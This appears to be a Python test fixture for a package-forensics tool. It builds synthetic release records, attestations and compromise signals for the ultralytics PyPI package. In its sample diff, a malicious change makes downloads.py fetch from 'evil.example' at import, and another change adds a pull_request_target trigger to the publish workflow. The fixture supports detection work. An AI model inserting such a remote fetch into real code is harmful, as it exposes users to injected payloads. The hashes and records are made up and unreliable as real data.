"""Releases of the documents built by hand: claims, files, signals, and what differs from the release before."""

# ruff: noqa: E501 - prose in data
from __future__ import annotations

import hashlib
from datetime import datetime, timedelta
from typing import Any

from forensics.model.document import AttestationDoc, FileDoc, ReleaseDoc, SignalDoc

NAME = "ultralytics"
REPOSITORY = "https://github.com/ultralytics/ultralytics"
CHECKS = (
    ("certificate chain", "pass", "leaf, intermediate and root of the trust root in force"),
    ("certificate time", "pass", "the log's time lies inside the ten minutes of validity"),
    ("certificate transparency", "pass", "one SCT under a known key"),
    ("signature", "pass", "ECDSA P-256 over the DSSE envelope"),
    ("inclusion promise", "pass", "signed by the log"),
    ("inclusion proof", "pass", "leads to the root hash of the checkpoint"),
    ("checkpoint", "pass", "signed by the log"),
    ("subject digest", "pass", "equals the digest that the index states"),
    ("log consistency", "not checked", "no earlier checkpoint of this log was kept"),
)


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def oid(text: str) -> str:
    return "o-" + sha(text)[:12]


def iso(at: datetime) -> str:
    return at.isoformat().replace("+00:00", "Z")


def claims(version: str) -> dict[str, str]:
    commit = sha("commit " + version)[:40]
    return {
        "subject_alternative_name": f"{REPOSITORY}/.github/workflows/publish.yml@refs/heads/main",
        "issuer": "https://token.actions.githubusercontent.com",
        "build_signer_uri": f"{REPOSITORY}/.github/workflows/publish.yml@refs/heads/main",
        "runner_environment": "github-hosted",
        "source_repository_uri": REPOSITORY,
        "source_repository_digest": commit,
        "source_repository_ref": "refs/heads/main",
        "source_repository_identifier": "520670205",
        "source_repository_owner_identifier": "26833433",
        "build_config_uri": f"{REPOSITORY}/.github/workflows/publish.yml@refs/heads/main",
        "build_config_digest": commit,
        "build_trigger": "push",
        "run_invocation_uri": f"{REPOSITORY}/actions/runs/{12000000000 + int(sha(version)[:7], 16)}/attempts/1",
        "deployment_environment": "Release - PyPI",
    }


def attestation(version: str, filename: str, at: datetime, index: int) -> AttestationDoc:
    return {
        "digest": sha("attestation " + filename),
        "label": "who uploaded it",
        "predicate_type": "https://docs.pypi.org/attestations/publish/v1",
        "status": "valid",
        "signed_at": iso(at),
        "signed_at_kind": "signed by the log",
        "log_id": "c0d23d6ad406973f9559f3ba2d1ca01f84147d8ffc5b8445c224f98b9591801d",
        "log_index": index,
        "log_origin": "rekor.sigstore.dev - 1193050959916656506",
        "publisher": {
            "kind": "GitHub",
            "repository": "ultralytics/ultralytics",
            "workflow": "publish.yml",
            "environment": None,
        },
        "identity": claims(version),
        "recovered": False,
        "checks": [{"name": n, "result": r, "detail": d} for n, r, d in CHECKS],
        "evidence": [oid("provenance " + filename)],
    }


def file(version: str, kind: str, at: datetime, *, attested: bool = True, listed: bool = True) -> FileDoc:
    filename = f"{NAME}-{version}.tar.gz" if kind == "sdist" else f"{NAME}-{version}-py3-none-any.whl"
    return {
        "filename": filename,
        "kind": kind,
        "sha256": sha(filename),
        "sha512": None,
        "size": 888_432 + len(version),
        "uploaded_at": iso(at),
        "listed": listed,
        "upload_client": "twine/5.1.1 CPython/3.12.7",
        "provenance": "attested" if attested else "absent",
        "provenance_reason": ""
        if attested
        else "the log holds no entry for this digest, and holds those of 8.3.43 and 8.3.44",
        "attestations": [attestation(version, filename, at - timedelta(seconds=11), 153415338)] if attested else [],
        "evidence": [oid("index") if listed else oid("export")],
    }


def release(version: str, predecessor: str | None, at: datetime, **over: Any) -> ReleaseDoc:
    doc: ReleaseDoc = {
        "version": version,
        "line": "8",
        "predecessor": predecessor,
        "published": iso(at),
        "published_kind": "asserted by the index",
        "removed": None,
        "removed_kind": "",
        "removed_reason": "",
        "listed": True,
        "yanked": False,
        "yanked_reason": None,
        "door": "trusted-attested",
        "publication": None,
        "verdict": "ordinary",
        "at_publish": "ordinary",
        "at_publish_is_lower_bound": True,
        "reasons": [],
        "signals": [],
        "not_checked": [
            {"subject": version, "what": w, "reason": r, "needs": n, "evidence": []}
            for w, r, n in (
                ("commit-unreachable", "git was not collected for this case", "git"),
                ("artifact-differs-from-source", "no artifact bytes in this case", "artifact, git"),
            )
        ],
        "identity": claims(version),
        "identity_diff": None,
        "comparison": None,
        "exposure": None,
        "files": [file(version, "sdist", at + timedelta(seconds=3)), file(version, "wheel", at)],
        "mentions": [],
        "runs": [],
        "second_opinion": None,
        "second_opinion_reason": "deps.dev was not asked",
        "evidence": [oid("index")],
    }
    doc.update(over)  # type: ignore[typeddict-item]
    return doc


def signal(
    sid: str, family: str, severity: str, observed: str, expected: str, *evidence: str, **over: Any
) -> SignalDoc:
    titles = {
        "artifact-differs-from-source": "The artifact holds what the source does not",
        "release-removed": "Known elsewhere, gone from the index",
        "advisory-match": "An advisory names this release",
        "provenance-lost": "No attestation where every earlier release had one",
        "no-source-release": "No tag, release or version bump for this version",
        "rapid-repeat": "Unusually soon after the release before it",
        "publisher-account-changed": "Another account published",
    }
    doc: SignalDoc = {
        "id": sid,
        "title": titles.get(sid, sid),
        "family": family,
        "severity": severity,
        "confidence": "high",
        "observed": observed,
        "expected": expected,
        "benign_if": ["the maintainers state that they did it, and the files equal the source"],
        "note": "",
        "at_publish": family not in {"hindsight"},
        "evidence": [oid(name) for name in evidence],
    }
    doc.update(over)  # type: ignore[typeddict-item]
    return doc


HINDSIGHT = (
    signal("release-removed", "hindsight", "medium", "named by the metadata export and by PYSEC-2024-154; not in the index's answer",
           "a published release stays listed or is yanked", "export", "index", "osv"),
    signal("advisory-match", "hindsight", "decisive", "PYSEC-2024-154 lists this version explicitly, and it was removed",
           "no advisory", "osv", benign_if=["the advisory is withdrawn"]),
)  # fmt: skip


def suspect(version: str, predecessor: str, at: datetime, removed: datetime, first_wave: bool) -> ReleaseDoc:
    if first_wave:
        own = [signal("artifact-differs-from-source", "source", "high",
                      "ultralytics/utils/downloads.py and ultralytics/models/yolo/model.py differ from commit cb260c24",
                      "files equal the attested commit, as in the 20 releases before", "artifact", "git",
                      benign_if=["the build generates these files, and did so before"],
                      note="The attestation is valid: the project's own workflow built what an attacker had put into its cache.")]  # fmt: skip
    else:
        own = [
            signal("provenance-lost", "trust", "medium", "neither file is attested", "both files attested, as in the last 28 releases of line 8", "log", "export",
                   benign_if=["a maintainer uploaded by hand because the workflow was broken", "the project left Trusted Publishing deliberately"]),
            signal("no-source-release", "source", "medium", "no tag v" + version + " and no commit that sets this version", "a tag, as for 30 of 30 earlier releases", "git"),
        ]  # fmt: skip
    diff = {
        "before": predecessor,
        "after": version,
        "rows": diff_rows(predecessor, version) if first_wave else [],
        "reason": "" if first_wave else f"{version} has no attestation, so no certificate says who uploaded it",
        "evidence": [oid("index"), oid("log")],
    }
    return release(
        version, predecessor, at,
        removed=iso(removed), removed_kind="asserted by a reporter", removed_reason="the index no longer lists it; the time is from a public write-up",
        listed=False, door="trusted-attested" if first_wave else "unknown", verdict="likely-compromised",
        at_publish="suspicious" if first_wave else "likely-compromised",
        reasons=["decisive: an advisory lists this version explicitly and it was removed", "medium or high signals in two families"],
        signals=[*own, *HINDSIGHT], identity=claims(version) if first_wave else None, identity_diff=diff,
        comparison=comparison(predecessor, version),
        exposure={"start": iso(at), "end": iso(removed), "seconds": int((removed - at).total_seconds()), "start_source": "metadata export",
                  "end_source": "public write-up", "end_reason": "removed from the index"},
        files=[file(version, k, at, attested=first_wave, listed=False) for k in ("sdist", "wheel")],
        mentions=[{"source": "metadata export", "text": "two files with SHA-256 and upload time", "evidence": [oid("export")]},
                  {"source": "OSV", "text": "PYSEC-2024-154", "evidence": [oid("osv")]}],
        evidence=[oid("export"), oid("osv")],
    )  # fmt: skip


def diff_rows(before: str, after: str) -> list[dict[str, Any]]:
    old, new = claims(before), claims(after)
    per_release = {"source_repository_digest", "build_config_digest", "run_invocation_uri"}
    rows: list[dict[str, Any]] = []
    for name in old:
        change = "expected" if name in per_release else "same"
        left: str | None = old[name]
        if name == "deployment_environment" and after == "8.3.42":
            change, left = "added", None
        rows.append(
            {"claim": name, "label": name.replace("_", " "), "before": left, "after": new[name], "change": change}
        )
    return rows


def comparison(before: str, after: str) -> dict[str, Any]:
    """Two commits, another workflow file, one file that newly downloads, one too large to spell out."""
    sdist = f"{NAME}-{after}.tar.gz"
    text = {
        "path": "ultralytics/utils/downloads.py",
        "change": "changed",
        "runs": "when called",
        "newly_reaches": ["the network"],
        "lines": [
            "@@ -1,2 +1,3 @@",
            " import os",
            "-old = 1",
            "+import urllib.request",
            "+new = urllib.request.urlopen('https://evil.example/x')",
        ],
        "reason": "",
        "left_out": 7,
    }
    large = {
        "path": "ultralytics/assets/model.bin",
        "change": "added",
        "runs": "never",
        "newly_reaches": [],
        "lines": [],
        "reason": "larger than 262,144 bytes",
        "left_out": 0,
    }
    return {
        "before": before, "after": after,
        "source": {"before": sha("commit " + before)[:40], "after": sha("commit " + after)[:40], "count": 3,
                   "commits": [{"sha": sha("commit " + after)[:40], "committed": "2024-12-04T20:43:14Z", "subject": "Update publish workflow"},
                               {"sha": sha("middle " + after)[:40], "committed": None, "subject": "Merge pull request"}],
                   "workflow": {"path": ".github/workflows/publish.yml", "before": sha("w" + before)[:40], "after": sha("w" + after)[:40],
                                "lines": ["@@ -3,2 +3,3 @@", " on: push", "+  pull_request_target:"], "reason": "", "left_out": 0},
                   "evidence": [oid("git")]},
        "contents": [{"before": f"{NAME}-{before}.tar.gz", "after": sdist, "added": [large["path"]], "removed": ["gone.py"], "changed": [text["path"]],
                      "surface": [f"{text['path']} newly touches the network at import"], "dependencies": ["requests"], "problems": ["two members of one name"],
                      "texts": [text, large], "evidence": [oid("artifact")]}],
        "not_compared": [{"what": "artifact contents", "reason": "the wheel was not fetched", "needs": "artifact", "evidence": [oid("index")]}],
    }  # fmt: skip
